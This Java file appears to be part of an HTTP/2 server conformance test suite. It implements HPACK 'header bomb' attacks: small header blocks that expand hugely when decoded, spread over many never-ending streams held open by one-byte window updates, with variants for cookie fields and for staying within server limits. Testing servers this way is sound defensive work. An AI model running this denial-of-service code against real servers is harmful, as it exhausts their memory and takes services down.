package dev.gannet.conformance.gauntlet.attack;

import dev.gannet.conformance.gauntlet.attack.AttackDescription.Fate;
import dev.gannet.conformance.gauntlet.wire.BlockWriter;
import dev.gannet.conformance.gauntlet.wire.Frames;
import dev.gannet.conformance.gauntlet.wire.RawConnection;
import dev.gannet.conformance.gauntlet.wire.Requests;
import java.io.IOException;

/**
 * Header blocks that are small on the wire and large after HPACK decoding, on streams that never
 * end.
 */
enum HeaderBomb implements Attack {
  /** One long field in the table, and many octets that refer to it. */
  LONG_FIELD("hpack-bomb", "x-a", 3_900, 4_000, "2016-6581"),
  /** A field of one letter, thousands of times: many entries instead of many bytes. */
  TINY_FIELD("http2-bomb", "a", 0, 4_000, "2026-49975 2026-47774"),
  /** The same with many small cookie fields, which some servers count as one. */
  CRUMBS("cookie-crumbs", "cookie", 1, 4_000, "2026-49975 2026-47774"),
  /** As many as a careful server allows, on as many streams as it allows, and all are kept. */
  WITHIN_LIMITS("http2-bomb-in-limits", "a", 0, 110, "2026-49975 2026-47774");

  private static final int NEWEST = 62; // the field that was stored last
  private static final int STREAMS = 250;
  private static final int DRIP_MILLIS = 50;

  private final String name;
  private final String fieldName;
  private final int valueBytes;
  private final int references;
  private final String cves;

  HeaderBomb(String name, String fieldName, int valueBytes, int references, String cves) {
    this.name = name;
    this.fieldName = fieldName;
    this.valueBytes = valueBytes;
    this.references = references;
    this.cves = cves;
  }

  @Override
  public AttackDescription description() {
    return new AttackDescription(
            name,
            "RFC 9113 §10.5.1, RFC 7541 §7.3",
            Fate.BOUNDED,
            "bounds the fields and the bytes of a decoded list, and what streams that stand keep")
        .published(cves);
  }

  /** Opens streams that cannot end, then opens their windows one byte at a time. */
  @Override
  public void attack(Front front) throws IOException {
    RawConnection connection = front.connect(Frames.INITIAL_WINDOW_SIZE, 0);
    connection.send(Frames.headers(1, Frames.END_HEADERS, seed()));
    int id = 1;
    while (front.goesOn(connection)) {
      for (int i = 0; i < STREAMS && front.goesOn(connection); i++) {
        id += 2;
        connection.send(Frames.headers(id, Frames.END_HEADERS, bomb()));
      }
      for (int drips = 0; drips < STREAMS && front.goesOn(connection); drips++) {
        connection.send(Frames.windowUpdate(id - 2 * drips, 1));
        connection.flush();
        front.pauseMillis(DRIP_MILLIS);
      }
    }
  }

  private byte[] seed() {
    BlockWriter field = new BlockWriter().stored(fieldName, "x".repeat(valueBytes));
    return Requests.untabled(Requests.UPLOAD, field);
  }

  private byte[] bomb() {
    return Requests.untabled(Requests.UPLOAD, new BlockWriter().indexed(NEWEST, references));
  }
}
